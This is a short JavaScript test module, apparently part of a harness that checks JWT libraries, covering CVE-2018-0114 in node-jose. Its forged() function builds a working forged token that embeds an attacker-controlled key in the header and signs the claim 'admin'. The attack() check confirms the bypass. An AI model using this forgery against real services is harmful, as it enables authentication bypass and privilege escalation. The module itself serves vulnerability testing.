// The token brings the key that it is to be verified with.
//
// node-jose before 0.11.0 let a key in the token's own header stand in for
// the service's key store: the attacker signs with a key of her own and
// encloses it. CVE-2018-0114.
const crypto = require("node:crypto");

module.exports = ({ release: jose, keys, tokens, edit, part }) => {
  const enters = async (token) => {
    const store = jose.JWK.createKeyStore();
    await store.add(keys.rsa_public, "pem");
    const verified = await jose.JWS.createVerify(store).verify(token);
    return JSON.parse(verified.payload).sub;
  };
  const forged = () => {
    const header = { alg: "RS256", jwk: JSON.parse(keys.mallory_jwk) };
    const signed = `${part(header)}.${part({ sub: "admin" })}`;
    const key = crypto.createSign("sha256").update(signed);
    return `${signed}.${key.sign(keys.mallory, "base64url")}`;
  };
  return {
    refusals: [["Error", "no key found"]],
    honest: async () => (await enters(tokens.RS256)) === "alice",
    edited: async () => (await enters(edit(tokens.RS256))) === "admin",
    attack: async () => (await enters(forged())) === "admin",
  };
};
